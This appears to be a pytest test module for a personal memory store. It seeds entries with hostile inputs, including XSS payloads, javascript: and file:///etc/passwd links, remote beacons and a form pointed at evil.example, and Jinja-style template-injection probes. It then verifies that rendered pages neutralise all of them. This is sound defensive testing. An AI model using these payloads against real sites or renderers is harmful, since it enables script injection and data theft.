"""A memory in which every field holds what would hurt a page that shows it carelessly, and what a page may hold at all.

Whoever writes into a memory (an agent that read a bad web page, an import) must not get a script into the browser of
the person whose memory it is, nor have it ask another machine for anything. So every text is shown as text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tallystick import Memory, NeedsApproval

SCRIPT = "<script>alert('x')</script>"
NASTY = (
    f"</textarea></title></pre>{SCRIPT}<img src=https://evil.example/x.png onerror=alert(1)>"
    "\" onmouseover=\"alert(2)\" ' onfocus='alert(3)' autofocus {{7*7}} {% if 1 %} \u202egnp.live\u202c"
)
WORDS = [
    NASTY,
    "![remote](https://evil.example/pic.png) <img src='https://evil.example/p.png'> ![](//evil.example/q.png)",
    "[press](javascript:alert(4)) [look](data:text/html,<script>alert(5)</script>) <javascript:alert(6)> "
    "[odd](JaVaScRiPt:alert(7)) [split](java&#x0A;script:alert(8)) [vb](vbscript:alert(9)) [file](file:///etc/passwd)",
    '<svg onload=alert(10)><iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<style>*{background:url(https://evil.example/s)}</style><link rel=stylesheet href="https://evil.example/l.css">',
    '<form action="https://evil.example"><input name=csrf><button autofocus>Log in</button></form><div style="position:'
    'fixed;inset:0">',
    "[ref] ![img][ref]\n\n[ref]: javascript:alert(11) \"' onclick='alert(12)\"",
    "`</code><script>alert(13)</script>` ```</pre><script>alert(14)</script>``` <!-- --!> ]]> <![CDATA[",
    "a NUL \x00 a bell \x07 a zero\u200bwidth \u202eturned\u202c \u2066isolated\u2069 and a mark \ufeff",
    "{{7*7}} {{config}} {% for x in ().__class__.__mro__ %}{{x}}{% endfor %} ${7*7} #{7*7} <%= 7*7 %>",
    "w" * 100_000,
    "ok " * 2_000 + SCRIPT,
    "> " * 300 + "deep " + "[" * 300 + "*" * 300,
]
ASKED = f'tea{SCRIPT}"><img src=https://evil.example/x.png onerror=alert(15)> {{{{7*7}}}}'

OWN = re.compile(r"(/(?!/)|#|\?)|$")  # addresses of our own
_LINKED = ("http", "https", "mailto")
_TAGS_NEVER = {"iframe", "object", "embed", "base", "style", "frame", "video", "audio", "source", "applet", "template"}


def made(folder: Path) -> str:
    """Write it there. Returns the id of an episode."""
    with Memory(folder) as m:
        with m.batch():
            for number, text in enumerate(WORDS):  # long ones apart: of a page that is long, not all is Markdown
                about = "topic-hostile" if len(text) < 1000 else "topic-long-words"
                m.remember(text, about=about, tags=[f"n{number}", NASTY], key=f"hostile-{number}")
            m.remember("It was kind once", about="topic-hostile", key="turned")
            m.remember(
                NASTY, key=NASTY, about=NASTY, tags=[NASTY, SCRIPT], kind=NASTY, source_type=NASTY, evidence=[NASTY],
                data={NASTY: NASTY}, agent=NASTY, session=NASTY, always=True,
            )  # fmt: skip
            for subject, object_ in ((NASTY, "Ana"), ("Ana", SCRIPT), ("Ana", NASTY), ("Ana", "w" * 5_000)):
                m.remember(f"{subject} knows {object_}", triple=(subject, NASTY, object_))
            episode = m.observe(NASTY, session=NASTY, agent=NASTY, id=NASTY, source_node=NASTY, metadata={NASTY: NASTY})
            for text in WORDS[:4]:
                m.observe(text, session="standup", agent=NASTY)
        m.revise("turned", NASTY + " revised", reason=NASTY)
        m.forget(m.remember(f"{NASTY} to be forgotten").id, reason=NASTY)
        m.pages.create("topic-by-hand", description=NASTY, tags=[SCRIPT], title=NASTY)
        m.pages.append("topic-by-hand", NASTY)
    with Memory(folder, by="mcp:3f9a", trust="agent") as m:
        for name in ("hostile-0", "hostile-2", "hostile-9"):
            with pytest.raises(NeedsApproval):
                m.revise(name, f"{NASTY} {name}", reason=NASTY, tags=[NASTY], kind=SCRIPT)
        with pytest.raises(NeedsApproval):
            m.forget("hostile-3", reason=NASTY)
    with Memory(folder, by="web:1", trust="web") as m:
        m.remember(f"{NASTY} says a web page", about="topic-hostile", agent=NASTY)
    return episode.id


def wrong_in(tags: Iterable[tuple[str, dict[str, str | None]]]) -> Iterator[str]:
    """What a page holds that none of ours may hold, whatever is remembered: its tags, with their attributes."""
    for tag, attributes in tags:
        said = f"<{tag} {attributes}"[:200]
        if tag in _TAGS_NEVER or (tag == "meta" and "http-equiv" in attributes):
            yield f"no page has {said}"
        if tag in ("script", "img", "link") and not _is_ours(attributes.get("src") or attributes.get("href")):
            yield f"only what is ours is loaded, not {said}"
        if any(name.startswith("on") or name == "style" for name in attributes):
            yield f"no tag carries a script or a style of its own: {said}"
        for name in ("href", "action", "formaction", "xlink:href", "src", "ping", "srcset", "background", "poster"):
            yield from _wrong_address(tag, name, attributes, said)


def _wrong_address(tag: str, name: str, attributes: dict[str, Any], said: str) -> Iterator[str]:
    address = attributes.get(name)
    if address is None or OWN.match(address):
        return
    if tag != "a" or name != "href" or urlsplit(address).scheme not in _LINKED:
        yield f"no address leads elsewhere, but for links that a person follows: {said}"
    elif not {"noopener", "noreferrer"} <= set((attributes.get("rel") or "").split()):
        yield f"a link to elsewhere says nothing of where it comes from: {said}"


def _is_ours(address: str | None) -> bool:
    return bool(address and address.startswith("/static/"))
